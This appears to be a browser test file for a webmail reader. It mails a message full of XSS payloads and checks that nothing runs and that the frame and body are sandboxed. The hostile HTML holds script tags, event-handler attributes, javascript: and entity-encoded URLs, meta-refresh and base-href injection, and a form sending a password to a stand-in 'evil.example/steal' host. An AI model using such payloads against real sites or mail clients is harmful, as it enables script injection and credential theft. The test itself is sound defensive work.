// A message full of script, event handlers and javascript: links is opened in the reader and
// nothing of it runs: checked from the page (dialogs, messages to the parent, changes to the
// page or the frame), not assumed from the sanitiser's output.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  browserUnavailable,
  newContext,
  pageSettled,
  screenshot,
  useBrowserFixture,
} from '../support/browser.ts';
import { sendMail } from '../support/harness.ts';
import { until } from '../support/until.ts';

// Every payload, if it ran, would leave a trace the test looks for: a dialog, a postMessage
// to the page, a changed title, or a mark on the frame's or the page's body.
const hostileHtml = `<html><head>
<script>parent.postMessage('script-ran', '*'); document.title = 'pwned';</script>
<meta http-equiv="refresh" content="0;url=javascript:parent.postMessage('refresh-ran','*')">
<base href="javascript:parent.postMessage('base-ran','*')//">
</head>
<body onload="parent.postMessage('onload-ran', '*')">
<h1 id="visible">Hello from a hostile sender</h1>
<img src="x" onerror="parent.postMessage('onerror-ran', '*'); alert('onerror')">
<svg onload="parent.postMessage('svg-ran', '*')"><circle r="5"/></svg>
<a id="js-link" href="javascript:parent.postMessage('link-ran', '*'); alert('link')">Click me</a>
<a id="js-entity" href="&#106;avascript:parent.postMessage('entity-ran', '*')">Entity link</a>
<a id="normal" href="https://example.org/page">Normal link</a>
<iframe src="javascript:parent.parent.postMessage('iframe-ran', '*')"></iframe>
<form action="https://evil.example/steal"><input name="password"><button id="submit">Send</button></form>
<div style="background:url(javascript:parent.postMessage('css-ran','*'))">styled</div>
<object data="javascript:parent.postMessage('object-ran','*')"></object>
<img src="https://tracker.example/pixel.gif" width="1" height="1" alt="">
<p onmouseover="parent.postMessage('hover-ran', '*')" id="hover">Hover me</p>
</body></html>`;

describe('hostile HTML in a browser', { skip: browserUnavailable() }, () => {
  const env = useBrowserFixture();

  test('nothing of the message executes, and its links open safely in a new tab', async () => {
    const context = await newContext(env.browser);
    const page = await context.newPage();
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const externalRequests: string[] = [];
    await context.route(/^https?:\/\/(?!127\.0\.0\.1)/, (route) => {
      externalRequests.push(route.request().url());
      void route.abort();
    });
    await page.goto(env.server.baseUrl);
    await page.evaluate(() => {
      (window as any).received = [];
      window.addEventListener('message', (event) => (window as any).received.push(String(event.data)));
    });
    const title = await page.title();
    const address = (await page.locator('#address').textContent()) ?? '';
    await page.locator('#live-status[data-state="live"]').waitFor();
    await sendMail(env.server, {
      from: 'mallory@evil.example',
      to: address,
      subject: 'Totally harmless',
      text: 'plain part',
      html: hostileHtml,
    });
    await page.locator('#messages li', { hasText: 'Totally harmless' }).locator('button').click();
    const frameElement = page.locator('iframe.html-body');
    await frameElement.waitFor();
    assert.equal(await frameElement.getAttribute('sandbox'), 'allow-popups allow-popups-to-escape-sandbox');
    const frame = page.frameLocator('iframe.html-body');
    await frame.locator('#visible').waitFor();

    // Interact as a reader would: hover, click the links, try the form.
    await frame.locator('#hover').hover();
    await frame
      .locator('#js-link')
      .click({ force: true })
      .catch(() => {});
    await frame
      .locator('#js-entity')
      .click({ force: true })
      .catch(() => {});
    await pageSettled(page);
    await screenshot(page, 'hostile-message');

    const handle = await frameElement.elementHandle();
    const content = await handle?.contentFrame();
    assert.ok(content, 'the message frame is loaded');
    const inside = await content.evaluate(() => ({
      scripts: document.querySelectorAll(
        'script, iframe, object, embed, form, svg, meta[http-equiv], base[href]',
      ).length,
      handlers: [...document.querySelectorAll('*')].flatMap((el) =>
        [...el.attributes].filter((a) => a.name.startsWith('on')).map((a) => a.name),
      ),
      jsUrls: [...document.querySelectorAll('[href], [src]')]
        .map((el) => el.getAttribute('href') ?? el.getAttribute('src') ?? '')
        .filter((url) => /^\s*javascript:/i.test(url)),
      normalLink: {
        target: document.getElementById('normal')?.getAttribute('target'),
        rel: document.getElementById('normal')?.getAttribute('rel'),
      },
      title: document.title,
    }));
    assert.equal(inside.scripts, 0, 'no active elements survive');
    assert.deepEqual(inside.handlers, [], 'no event handler attributes survive');
    assert.deepEqual(inside.jsUrls, [], 'no javascript: URLs survive');
    assert.deepEqual(inside.normalLink, { target: '_blank', rel: 'noopener noreferrer' });
    assert.notEqual(inside.title, 'pwned');

    assert.deepEqual(await page.evaluate(() => (window as any).received), [], 'no script posted to the page');
    assert.deepEqual(dialogs, [], 'no dialog opened');
    assert.equal(await page.title(), title, 'the page title is untouched');
    // Only the fragment naming the open message changed.
    assert.equal(page.url().split('#')[0], `${env.server.baseUrl}/`, 'the page was not navigated');
    assert.match(new URL(page.url()).hash, /^#message=[\w-]+$/);
    assert.ok(
      !externalRequests.some((url) => url.includes('tracker.example')),
      'the tracking pixel was not loaded before the reader asked',
    );

    // The reader asks for remote images: only then is the pixel requested.
    await page.locator('.show-images').click();
    await until(
      () => externalRequests.some((url) => url.includes('tracker.example/pixel.gif')),
      'the pixel is requested once remote images are shown',
      20_000,
    );
    assert.deepEqual(await page.evaluate(() => (window as any).received), []);
    await context.close();
  });

  test('the message document is sandboxed by its own headers, even opened directly', async () => {
    const context = await newContext(env.browser);
    const page = await context.newPage();
    await page.goto(env.server.baseUrl);
    const address = (await page.locator('#address').textContent()) ?? '';
    const token = new URL(await page.locator('.share-url').inputValue()).pathname.split('/')[2];
    await sendMail(env.server, {
      from: 'mallory@evil.example',
      to: address,
      subject: 'Direct',
      html: hostileHtml,
    });
    const list = await (await page.request.get(`${env.server.baseUrl}/inbox/${token}/messages`)).json();
    const id = list.messages[0].id;
    const response = await page.request.get(`${env.server.baseUrl}/inbox/${token}/messages/${id}/body.html`);
    assert.match(response.headers()['content-security-policy'] ?? '', /sandbox/);
    assert.match(response.headers()['content-security-policy'] ?? '', /default-src 'none'/);
    const direct = await context.newPage();
    const dialogs: string[] = [];
    direct.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await direct.goto(`${env.server.baseUrl}/inbox/${token}/messages/${id}/body.html`);
    await direct.locator('#visible').waitFor();
    // Its script may not run at all, so no probe can be evaluated in it; inline scripts and
    // onload/onerror handlers would all have run before the load event.
    await direct.waitForLoadState('load');
    assert.deepEqual(dialogs, []);
    await context.close();
  });
});
